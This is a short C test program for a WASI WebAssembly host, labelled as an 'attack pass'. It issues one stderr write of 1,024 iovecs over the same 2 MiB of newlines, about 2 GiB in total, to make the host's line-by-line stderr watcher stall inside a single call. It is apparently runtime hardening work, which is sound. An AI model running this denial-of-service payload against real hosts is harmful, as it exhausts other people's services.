// attack pass 42a: one fd_write to stderr of 1,024 iovecs that all point
// at the same 2 MiB of newlines (2^31-2^11 bytes in all, under the host's
// bound): the host's stderr watcher walks it line by line in one host call.
// clang --target=wasm32-wasi -O2 -o stderrnl.wasm stderrnl.c
#include <wasi/api.h>
#include <string.h>
#include <stdint.h>
static uint8_t buf[(2u << 20) - 2];
static __wasi_ciovec_t iov[1024];
int main(void){
  memset(buf, '\n', sizeof buf);
  for (int i = 0; i < 1024; i++) { iov[i].buf = buf; iov[i].buf_len = sizeof buf; }
  __wasi_size_t w;
  (void)__wasi_fd_write(2, iov, 1024, &w);
  return 0;
}
